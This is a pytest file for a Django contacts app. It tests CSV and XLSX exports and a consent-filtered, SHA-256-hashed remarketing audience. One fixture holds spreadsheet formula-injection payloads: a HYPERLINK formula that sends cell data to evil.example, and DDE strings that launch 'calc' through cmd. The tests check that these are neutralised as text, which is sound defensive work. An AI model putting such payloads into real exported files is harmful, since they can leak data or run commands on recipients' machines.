"""Exports: CSV, XLSX, and the hashed remarketing audience honouring third-party consent."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile

import pytest
from openpyxl import load_workbook

from volano.contacts import services as contact_services
from volano.segments import export, selectors, services

pytestmark = pytest.mark.django_db


@pytest.fixture
def segment(officina, giulia):
    yes = contact_services.contact_create(
        workspace=officina,
        actor=None,
        data={
            "email": "Mario.Rossi@Example.com",
            "phone": "333 123 4567",
            "province": "MI",
            "first_name": "Mario",
        },
    )
    no = contact_services.contact_create(
        workspace=officina, actor=None, data={"email": "no@example.com", "province": "MI"}
    )
    contact_services.consent_set(
        workspace=officina,
        actor=None,
        contact=yes,
        purpose="third_party",
        status="granted",
        source="form",
    )
    contact_services.consent_set(
        workspace=officina,
        actor=None,
        contact=no,
        purpose="third_party",
        status="denied",
        source="form",
    )
    return services.segment_save(
        workspace=officina,
        actor=giulia,
        slug="milano",
        name="Milano",
        definition={"field": "province", "op": "eq", "value": "MI"},
    )


def test_csv_and_xlsx_hold_every_member(officina, segment):
    members = selectors.segment_members(workspace=officina, segment=segment)
    rows = list(
        csv.reader(io.StringIO("".join(export.export_csv(workspace=officina, contacts=members))))
    )
    assert rows[0][:3] == ["id", "email", "first_name"]
    assert sorted(r[1] for r in rows[1:]) == ["mario.rossi@example.com", "no@example.com"]
    out = io.BytesIO()
    export.export_xlsx(workspace=officina, contacts=members, out=out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    values = list(sheet.values)
    assert values[0][1] == "email" and len(values) == 3


def test_audience_hashes_normalised_email_and_phone_of_consenting_contacts_only(officina, segment):
    members = selectors.segment_members(workspace=officina, segment=segment)
    text = "".join(export.audience_csv(workspace=officina, contacts=members))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Email", "Phone"]
    assert len(rows) == 2  # the contact who denied third-party use is left out
    # checked by hand with `echo -n mario.rossi@example.com | sha256sum` (and +393331234567)
    assert rows[1] == [
        "10928b45363b7d849e040470c3277657f8177ef5a953a092b4302f149757a02e",
        "78f00e1ca317fb2af02c89b17b8b07382ff70336aba0997ad1f3ef3645b4e682",
    ]
    assert rows[1][0] == hashlib.sha256(b"mario.rossi@example.com").hexdigest()
    meta = list(
        csv.reader(
            io.StringIO(
                "".join(export.audience_csv(workspace=officina, contacts=members, platform="meta"))
            )
        )
    )
    assert meta[0] == ["email", "phone"]
    assert meta[1][1] == hashlib.sha256(b"393331234567").hexdigest()


FORMULAS = {
    "first_name": '=HYPERLINK("https://evil.example/?d="&A2,"Clicca")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "job_title": "+cmd|' /C calc'!A0",
    "city": "-2+3",
}


@pytest.fixture
def booby_trapped(officina, giulia):
    contact_services.contact_create(
        workspace=officina,
        actor=None,
        data={"email": "trap@example.com", "phone": "333 123 4567", **FORMULAS},
    )
    return selectors.segment_members(
        workspace=officina,
        segment=services.segment_save(
            workspace=officina,
            actor=giulia,
            slug="trap",
            name="Trap",
            definition={"field": "email", "op": "eq", "value": "trap@example.com"},
        ),
    )


def test_csv_export_writes_formulas_as_text(officina, booby_trapped):
    text = "".join(export.export_csv(workspace=officina, contacts=booby_trapped))
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    for field, formula in FORMULAS.items():
        assert cells[field] == "'" + formula
    assert cells["phone"] == "'+393331234567"  # Excel would read +39… as a formula too
    assert cells["email"] == "trap@example.com"
    assert cells["id"].isdigit()


def test_xlsx_export_writes_formulas_as_text_cells(officina, booby_trapped):
    out = io.BytesIO()
    export.export_xlsx(workspace=officina, contacts=booby_trapped, out=out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    cells = {
        name: cell for name, cell in zip(header, next(sheet.iter_rows(min_row=2)), strict=True)
    }
    for field, formula in FORMULAS.items():
        assert cells[field].value == formula  # exactly as stored…
        assert cells[field].data_type == "s" and cells[field].quotePrefix  # …and only text
    assert cells["email"].quotePrefix is False
    assert isinstance(cells["id"].value, int)  # numbers stay numbers
